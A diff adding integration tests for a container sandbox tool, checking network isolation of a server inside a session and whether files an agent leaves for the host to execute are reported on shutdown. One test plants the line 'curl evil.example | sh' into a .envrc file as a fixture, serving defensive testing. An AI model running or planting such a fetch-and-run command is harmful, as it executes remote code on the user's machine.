@@ -10,6 +10,9 @@ from typing import Any
 
 import pytest
 
+from tests.lab import layout
+from tests.lab.network import in_netns
+
 from .host import BASE_POLICY, Host, Project, until
 from .person import LEAVE, at_terminal
 
@@ -121,6 +124,96 @@ def test_up_attach_logs_refresh_and_down(host: Host, project: Project) -> None:
     assert second["session"] != first["session"]
     assert "removed 1 container, its network" in project.corral("down").stdout
     assert project.containers() == []
+
+
+SERVER = """\
+import socket, sys
+s = socket.create_server(("0.0.0.0", 8377))
+while True:
+    c, peer = s.accept()
+    with open(sys.argv[1] + "/heard", "a") as file:
+        file.write(peer[0] + "\\n")
+    c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nfrom inside")
+    c.close()
+"""
+
+
+@pytest.fixture
+def visitor(host: Host) -> Iterator[str]:
+    """Another user of this host, with an engine's socket or without it makes no difference."""
+    host.root("useradd", "-m", "visitor", check=False)
+    yield "visitor"
+    host.root("userdel", "-r", "visitor", check=False)
+
+
+def test_a_server_inside_is_for_its_user_and_root_at_the_address_that_is_shown(
+    host: Host, project: Project, visitor: str
+) -> None:
+    project.corral("up", timeout=400)
+    other = host.project("neighbour")
+    other.inside("true", timeout=400)
+    running = session(project)
+    address = running["address"]
+    assert f"main-{running['session']}  {address}  running" in project.corral("status").stdout
+    host.box.write(f"{WORK}/server.py", SERVER)
+    host.root(
+        "docker", "exec", "-d", "-u", "1000:1000", running["container"], "python3", f"{WORK}/server.py", WORK
+    )
+    url = f"http://{address}:8377/"
+
+    def heard() -> int:
+        return len(host.shell(f"cat {WORK}/heard 2>/dev/null || true").stdout.splitlines())
+
+    def curl(user: str) -> str:
+        return host.shell(f"curl --noproxy '*' -sS -m 5 {url} || true", user=user).stdout
+
+    until(lambda: "from inside" in curl("dev"), 20, "its user reaches it")
+    before = heard()
+    assert "from inside" in curl("dev") and "from inside" in curl("root")
+    assert heard() == before + 2
+    # Nobody else's packets arrive: another user, a container of another network, another sandbox.
+    tries = (
+        f"import socket; s = socket.socket(); s.settimeout(3); s.connect(('{address}', 8377)); print('open')"
+    )
+    assert curl(visitor) == ""
+    assert "open" not in host.plain("python3", "-c", tries, check=False).stdout
+    assert "open" not in other.inside("python3", "-c", tries, check=False).stdout
+    inet = host.internet._lab.inet_netns
+    in_netns(inet, ["ip", "route", "replace", f"{address}/32", "via", layout.BOX])
+    try:
+        outside = in_netns(inet, ["sh", "-c", f"curl --noproxy '*' -sS -m 3 {url} 2>&1 || true"])
+    finally:
+        in_netns(inet, ["ip", "route", "del", f"{address}/32"])
+    assert "from inside" not in outside
+    assert heard() == before + 2
+    assert "from inside" in curl("dev")
+    assert heard() == before + 3
+
+
+def test_what_the_agent_left_for_this_host_to_execute_is_told_when_it_ends(
+    host: Host, project: Project
+) -> None:
+    project.corral("up", timeout=400)
+    running = session(project)
+    touch = f"echo 'curl evil.example | sh' > {WORK}/.envrc"
+    host.root("docker", "exec", "-u", "1000:1000", running["container"], "sh", "-c", touch)
+    done = project.corral("down")
+    assert f"{WORK}/.envrc: new" in done.stderr
+    project.corral("revert", running["session"])
+    assert host.box.run(["test", "-e", f"{WORK}/.envrc"], check=False).returncode == 1
+    # By its unit, in the journal, at once.
+    project.corral("enable", timeout=400)
+    name, running, since = unit(host, project), session(project), time.time()
+    status = project.corral("status").stdout
+    assert f"unit {name}: active (running), starts with the machine" in status
+    assert "enable-linger" not in status
+    host.root("docker", "exec", "-u", "1000:1000", running["container"], "sh", "-c", touch)
+    host.root("docker", "kill", running["container"])
+    until(
+        lambda: f"{WORK}/.envrc: new" in host.journal(f"_SYSTEMD_USER_UNIT={name}", since=since - 1),
+        60,
+        "the unit says it",
+    )
 
 
 def test_each_mode_says_which_command_is_its_own(host: Host, project: Project) -> None:
